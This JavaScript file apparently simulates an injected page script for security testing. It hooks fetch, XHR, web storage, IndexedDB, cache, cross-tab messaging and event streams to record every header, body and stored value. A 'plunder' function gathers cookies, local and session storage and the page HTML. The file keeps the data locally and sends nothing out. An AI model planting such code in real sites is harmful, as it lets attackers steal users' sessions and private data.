// What a planted script does: it keeps every text that passes it, before the page's own code runs.
const kept = []
const keep = (...texts) => kept.push(...texts.map(String))
const wrap = (owner, name, before) => {
  const original = owner[name]
  owner[name] = function (...given) {
    before.apply(this, given)
    return original.apply(this, given)
  }
}
const send = window.fetch
window.fetch = async (input, init) => {
  const request = input instanceof Request ? input.clone() : new Request(input, init)
  keep(request.url, ...[...request.headers].flat(), await request.text())
  const response = await send(input, init)
  keep(...[...response.headers].flat())
  if (!response.headers.get('content-type')?.includes('event-stream')) {
    keep(await response.clone().text())
  }
  return response
}
wrap(XMLHttpRequest.prototype, 'setRequestHeader', keep)
wrap(XMLHttpRequest.prototype, 'send', function (body) {
  keep(body)
  this.addEventListener('load', () => keep(this.getAllResponseHeaders(), this.responseText))
})
wrap(Storage.prototype, 'setItem', keep)
wrap(IDBObjectStore.prototype, 'put', (value) => keep(JSON.stringify(value)))
wrap(IDBObjectStore.prototype, 'add', (value) => keep(JSON.stringify(value)))
wrap(Cache.prototype, 'put', (request) => keep(request.url ?? request))
wrap(BroadcastChannel.prototype, 'postMessage', (value) => keep(JSON.stringify(value)))
wrap(MessagePort.prototype, 'postMessage', (value) => keep(JSON.stringify(value)))
wrap(window, 'postMessage', (value) => keep(JSON.stringify(value)))
// A planted script opens the client's channel under its name, and hears what other tabs are told
const Channel = window.BroadcastChannel
window.BroadcastChannel = class extends Channel {
  constructor(name) {
    super(name)
    new Channel(name).onmessage = ({ data }) => keep(name, JSON.stringify(data))
  }
}
window.cookieStore?.addEventListener('change', ({ changed }) => keep(JSON.stringify(changed)))
wrap(EventTarget.prototype, 'addEventListener', function (type) {
  if (this instanceof EventSource && !this.watched) {
    this.watched = true
    for (const name of ['message', 'changed', 'ended']) {
      this.addEventListener(name, ({ data }) => keep(data))
    }
  }
  keep(type)
})
window.plunder = () => {
  const everywhere = new Set()
  const look = (value, depth) => {
    if (typeof value === 'string') kept.push(value)
    if (typeof value !== 'object' || value === null || depth > 6 || everywhere.has(value)) return
    everywhere.add(value)
    for (const name of Reflect.ownKeys(value)) {
      try {
        look(value[name], depth + 1)
      } catch {
        // A getter that refuses tells nothing
      }
    }
  }
  look(window.page, 0)
  keep(document.cookie, JSON.stringify(localStorage), JSON.stringify(sessionStorage))
  keep(document.documentElement.outerHTML)
  return kept
}
